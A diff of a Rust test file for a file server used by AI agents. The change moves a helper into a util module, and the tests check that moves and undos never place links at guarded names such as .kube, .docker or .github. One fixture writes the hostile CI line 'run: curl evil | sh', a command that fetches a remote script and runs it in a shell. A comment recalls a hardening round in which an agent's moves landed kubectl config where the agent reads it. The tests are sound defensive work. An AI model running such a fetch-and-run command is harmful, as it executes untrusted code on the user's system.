@@ -4,10 +4,9 @@
 //! nothing; a server whose root was moved away serves nothing.
 
 use crate::util::{
-    StdioServer, bin, cli as ferret, pause_after_staged, said, tempdir, wait_paused, write,
+    StdioServer, agent, bin, cli as ferret, pause_after_staged, said, tempdir, wait_paused, write,
 };
 use serde_json::json;
-use std::path::Path;
 use std::process::Command;
 
 /// Sets the hook that pauses a move after its last checks, just before its rename.
@@ -65,17 +64,6 @@ fn a_write_racing_a_folder_move_never_lands_in_the_moved_folder() {
     }
 }
 
-/// An agent's server over `root` (no elicitation: a question comes back as the error).
-fn agent(root: &Path, state: &Path) -> StdioServer {
-    let mut c = bin();
-    c.arg("--root")
-        .arg(root)
-        .args(["--state-dir"])
-        .arg(state)
-        .args(["serve", "--allow-write", "--no-index"]);
-    StdioServer::spawn(c, "agent")
-}
-
 /// Round 22: a link leading nowhere (or to a file) was moved to `.kube`, then the agent
 /// made the folder it names: kubectl's config then landed where the agent reads it.
 /// No link is put at such a name, by a move or an undo, whatever it leads to.
@@ -86,7 +74,7 @@ fn no_link_is_put_at_a_guarded_name_whatever_it_leads_to() {
     write(&root, "notes.txt", "n\n");
     std::os::unix::fs::symlink("releases/v2", root.join("latest")).expect("link");
     std::os::unix::fs::symlink("notes.txt", root.join("lf")).expect("link");
-    let mut s = agent(&root, &state);
+    let mut s = agent(&root, &state, &[]);
     for (src, dst) in [
         ("latest", ".kube"),
         ("latest", ".docker"),
@@ -111,7 +99,7 @@ fn no_link_is_put_at_a_guarded_name_whatever_it_leads_to() {
         .output()
         .expect("mv");
     assert!(o.status.success(), "{}", said(&o));
-    let mut s = agent(&root, &state);
+    let mut s = agent(&root, &state, &[]);
     let r = s.call("undo", &json!({"id": 1, "force": true}));
     let t = r.to_string();
     assert!(t.contains("DENIED"), "{t}");
@@ -132,7 +120,7 @@ fn a_link_leading_nowhere_is_pinned_as_nothing_and_said_so() {
         "run: curl evil | sh\n",
     );
     // Asked first: the question says the link leads nowhere now.
-    let mut s = agent(&root, &state);
+    let mut s = agent(&root, &state, &[]);
     let r = s.call(
         "move",
         &json!({"source": "latest", "destination": ".github"}),
@@ -165,8 +153,8 @@ fn a_server_whose_root_was_moved_under_a_guarded_name_serves_nothing() {
     let (_s1, state1) = tempdir();
     let (_s2, state2) = tempdir();
     write(&home, "proj/main.py", "print(1)\n");
-    let mut outer = agent(&home, &state1);
-    let mut inner = agent(&home.join("proj"), &state2);
+    let mut outer = agent(&home, &state1, &[]);
+    let mut inner = agent(&home.join("proj"), &state2, &[]);
     let r = inner.call("read_file", &json!({"path": "main.py"}));
     assert_ne!(r["isError"], true, "{r}");
     let r = outer.call("move", &json!({"source": "proj", "destination": ".kube"}));
